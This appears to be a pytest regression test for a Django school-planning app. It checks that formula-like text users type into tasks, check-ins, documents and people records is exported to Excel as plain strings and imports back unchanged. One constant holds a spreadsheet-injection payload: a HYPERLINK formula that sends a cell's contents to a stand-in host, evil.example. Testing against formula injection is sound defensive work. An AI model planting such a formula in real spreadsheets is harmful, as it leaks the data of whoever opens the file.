"""Text a user typed that looks like a formula is exported as text and imported back unchanged.

A task titled '=HYPERLINK(…)' used to be written as a live formula: Excel ran it when the sheet
was opened, and the file could no longer be imported ("Ô chứa công thức").
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from collections.abc import Callable

import pytest
from openpyxl import load_workbook

from conftest import World
from documents import excel as documents_excel
from documents.models import Document
from documents.services import register_list
from organisations import excel as organisations_excel
from organisations.models import Person, Position
from organisations.services import people_list
from planning import excel_import, services
from planning.models import Target, Task
from planning.tests.test_excel_import import snapshot
from tracking import excel, excel_reporting
from tracking import services as tracking_services
from tracking.models import CheckIn

DAY = dt.date(2023, 11, 20)
LINK = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
PHONE = "+84 912 345 678"
HOURS = "-5 giờ"
AT = "@x"
SUM = "=1+1"


def plant(world: World) -> None:
    """Formula-like text in every field the exports carry, entered the ordinary way."""
    by = world.users["leadership"]
    world.task.title, world.task.description = LINK, HOURS
    services.save_plan_object(world.task, by=by)
    world.subtask.title = AT
    services.save_plan_object(world.subtask, by=by)
    world.target.unit_of_measure = AT
    world.target.code = SUM
    services.save_plan_object(world.target, by=by)
    tracking_services.submit_checkin(
        world.unit_task, by=world.users["unit_head"], unit=world.office, on=DAY,
        data=tracking_services.CheckInData(
            progress=40, done=LINK, difficulties=HOURS, proposals=AT, confidence="medium"
        ),
    )  # fmt: skip
    Document.objects.filter(pk=world.document.pk).update(summary=LINK, signer_title=AT)
    Person.objects.filter(pk=world.people["staff"].pk).update(phone=PHONE, honorific=SUM)
    Position.objects.filter(person=world.people["staff"]).update(title=HOURS)


EXPORTS: dict[str, tuple[Callable[[World], bytes], set[str]]] = {
    "plan": (lambda w: excel.plan_workbook(w.plan, DAY), {LINK, HOURS, AT, SUM}),
    "tasks": (
        lambda w: excel.tasks_workbook(Task.objects.active().filter(plan=w.plan), DAY),
        {LINK, HOURS, AT},
    ),
    "targets": (
        lambda w: excel.targets_workbook(Target.objects.active().filter(plan=w.plan)),
        {AT, SUM},
    ),
    "checkins": (
        lambda w: excel.checkins_workbook(Task.objects.filter(plan=w.plan)),
        {LINK, HOURS, AT},
    ),
    "documents": (
        lambda w: documents_excel.documents_workbook(register_list(w.school.pk, {})),
        {LINK, AT},
    ),
    "people list": (
        lambda w: organisations_excel.people_workbook(people_list(w.school.pk, {})),
        {PHONE, HOURS, SUM},
    ),
    "people sheet": (lambda w: organisations_excel.export_people(w.school), {PHONE, HOURS, SUM}),
    "reporting": (
        lambda w: excel_reporting.reporting_workbook(w.plan, w.office, on=DAY),
        {LINK, HOURS, AT},
    ),
}


def formula_parts(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [n for n in archive.namelist() if b"<f>" in archive.read(n)]


@pytest.mark.parametrize("name", list(EXPORTS))
def test_every_export_writes_formula_like_text_as_text(world: World, name: str) -> None:
    plant(world)
    build, planted = EXPORTS[name]
    data = build(world)
    assert formula_parts(data) == []
    found = {
        (cell.value, cell.data_type)
        for sheet in load_workbook(io.BytesIO(data)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in planted
    }
    assert found == {(text, "s") for text in planted}


def test_the_plan_round_trips_into_a_fresh_plan_unchanged(world: World) -> None:
    plant(world)
    by = world.users["leadership"]
    fresh = services.create_plan(school=world.school, start_year=2024, title="Năm sau", by=by)
    read = excel_import.read_plan(fresh, excel.plan_workbook(world.plan, DAY))
    assert read.result.ok, read.result.errors
    excel_import.import_plan(fresh, excel.plan_workbook(world.plan, DAY), by=by)
    assert snapshot(fresh) == snapshot(world.plan)
    assert Task.objects.get(plan=fresh, title=LINK).description == HOURS


@pytest.mark.parametrize("name", ["plan", "tasks", "targets"])
def test_plan_exports_read_back_into_their_plan_as_unchanged(world: World, name: str) -> None:
    plant(world)
    read = excel_import.read_plan(world.plan, EXPORTS[name][0](world))
    assert read.result.ok and not read.result.changed, read.result.errors


def test_the_register_round_trips_unchanged(world: World) -> None:
    plant(world)
    read = documents_excel.read_documents(world.school, EXPORTS["documents"][0](world))
    assert read.ok and not read.changed, read.errors


def test_units_and_people_round_trip_unchanged(world: World) -> None:
    plant(world)
    read = organisations_excel.read_people(world.school, EXPORTS["people sheet"][0](world))
    assert read.ok and not read.changed, read.errors
    organisations_excel.import_people(
        world.school, EXPORTS["people sheet"][0](world), by=world.users["leadership"]
    )
    assert Person.objects.get(pk=world.people["staff"].pk).phone == PHONE


def test_the_reporting_sheet_round_trips_to_no_new_check_in(world: World) -> None:
    plant(world)
    data = EXPORTS["reporting"][0](world)
    result = excel_reporting.read_report(
        world.plan, world.office, data, by=world.users["unit_head"]
    )
    assert result.ok and not result.changed, result.errors
    excel_reporting.import_report(
        world.plan, world.office, data, by=world.users["unit_head"], on=DAY
    )
    assert CheckIn.objects.get().done == LINK
